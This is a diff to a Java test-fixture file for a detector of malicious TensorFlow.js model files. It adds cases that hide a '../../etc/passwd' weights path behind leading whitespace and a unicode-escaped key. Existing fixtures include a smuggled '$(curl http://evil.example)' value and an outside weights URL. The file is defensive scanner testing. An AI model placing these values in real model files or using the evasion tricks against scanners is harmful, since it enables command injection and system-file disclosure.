@@ -1,5 +1,7 @@
 package dev.assay.detectors.model.tfjs;
 
+import static dev.assay.detectors.FlatBytes.join;
+
 import dev.assay.detectors.model.FormatCase;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
@@ -24,6 +26,16 @@ public final class TfjsSamples {
                 FormatCase.of("address.json", model("Dense", "https://evil.example/w.bin"), "model/tfjs-weights-path"),
                 FormatCase.of("lambda.json", model("Lambda", "group1-shard1of1.bin"), "model/keras-lambda"),
                 FormatCase.of("command.json", model("Dense", "$(curl http://evil.example)"), "model/embedded-command"),
+                FormatCase.of(
+                        "white-space.json",
+                        join("\n ".getBytes(StandardCharsets.UTF_8), model("Dense", "../../etc/passwd")),
+                        "model/tfjs-weights-path"),
+                FormatCase.of(
+                        "escaped.json",
+                        new String(model("Dense", "../../etc/passwd"), StandardCharsets.UTF_8)
+                                .replace("modelTopology", "model\\u0054opology")
+                                .getBytes(StandardCharsets.UTF_8),
+                        "model/tfjs-weights-path"),
                 FormatCase.of(
                         "broken.json", "{\"modelTopology\":{,}}".getBytes(StandardCharsets.UTF_8), "gap:malformed"));
     }
